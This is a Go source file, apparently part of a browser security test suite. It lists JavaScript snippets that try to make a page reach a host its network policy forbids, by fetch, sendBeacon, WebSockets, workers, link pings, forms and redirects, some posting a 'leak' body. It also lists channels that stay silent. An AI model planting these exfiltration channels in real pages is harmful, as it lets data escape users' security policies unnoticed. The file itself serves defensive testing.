package attacks

import "maps"

// ways are how a page can make a browser speak to a host. Each is the body of a
// function that is given url, an address at a host of its own that the policy does
// not allow, and site, the page's own address.
var ways = merged(scriptWays, elementWays, leavingWays)

func merged(tables ...map[string]string) map[string]string {
	all := map[string]string{}
	for _, table := range tables {
		maps.Copy(all, table)
	}
	return all
}

// silent are the ways that this browser does not go at all, or not through
// anything that could say so: nothing arrives, and there is nothing to tell.
var silent = []string{
	"Alt-Svc", "DNS prefetch", "WebTransport", "icon", "manifest", "payment", "preconnect", "preconnect over TLS", "prerender", "service worker", "speculation rules",
}

// scriptWays are what a script can ask for.
var scriptWays = map[string]string{
	"fetch":              `await fetch(url).catch(() => 0)`,
	"fetch no-cors":      `await fetch(url, {mode: "no-cors", method: "POST", body: "leak"}).catch(() => 0)`,
	"fetch keepalive":    `await fetch(url, {keepalive: true, method: "POST", mode: "no-cors", body: "leak"}).catch(() => 0)`,
	"XMLHttpRequest":     `await new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", url); x.send() })`,
	"sendBeacon":         `navigator.sendBeacon(url, "leak")`,
	"EventSource":        `await new Promise(done => { const s = new EventSource(url); s.onerror = () => { s.close(); done() } })`,
	"WebSocket":          `await new Promise(done => { const s = new WebSocket(url.replace("http", "ws")); s.onerror = s.onclose = done })`,
	"WebSocket over TLS": `await new Promise(done => { const s = new WebSocket(url.replace("http", "wss")); s.onerror = s.onclose = done })`,
	"TLS":                `await fetch(url.replace("http", "https"), {mode: "no-cors"}).catch(() => 0)`,
	"import":             `await import(url).catch(() => 0)`,
	"worker":             `await new Promise(done => { const w = new Worker("/worker.js"); w.onmessage = w.onerror = done; w.postMessage(url) })`,
	"shared worker":      `const w = new SharedWorker("data:text/javascript,fetch('" + url + "')"); await new Promise(done => setTimeout(done, 300))`,
	"service worker":     `await navigator.serviceWorker.register("/worker.js?" + url).catch(() => 0); await navigator.serviceWorker.register(url).catch(() => 0)`,
	"worklet":            `await CSS.paintWorklet?.addModule(url).catch(() => 0)`,
	"redirect":           `await fetch("/go/location?to=" + encodeURIComponent(url), {mode: "no-cors"}).catch(() => 0)`,
	"Alt-Svc":            `const at = new URL(url).host; for (let n = 0; n < 3; n++) await fetch("/go/alt?to=" + at)`,
	"WebTransport":       `try { const w = new WebTransport(url.replace("http", "https")); await w.ready } catch {}`,
	"payment":            `try { await new PaymentRequest([{supportedMethods: url}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment() } catch {}`,
}

// leavingWays lead a page, or another one, elsewhere.
var leavingWays = map[string]string{
	"window.open":             `window.open(url)`,
	"window.open with opener": `window.open(url, "_blank", "noopener,noreferrer")`,
	"link in a new tab":       `const a = document.createElement("a"); a.href = url; a.target = "_blank"; document.body.append(a); a.click()`,
	"ping":                    `const a = document.createElement("a"); a.href = "#"; a.ping = url; document.body.append(a); a.click()`,
	"download":                `const a = document.createElement("a"); a.href = url; a.download = "x"; document.body.append(a); a.click()`,
	"location":                `location.href = url`,
	"location.replace":        `location.replace(url)`,
	"refresh":                 `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=" + url + "'>"); await new Promise(done => setTimeout(done, 300))`,
	"Refresh header":          `location.href = "/go/refresh?to=" + encodeURIComponent(url)`,
	"redirected away":         `location.href = "/go/location?to=" + encodeURIComponent(url)`,
	"form":                    `document.body.insertAdjacentHTML("beforeend", "<form method=post action='" + url + "'><input name=leak value=1></form>"); document.forms[0].submit()`,
}
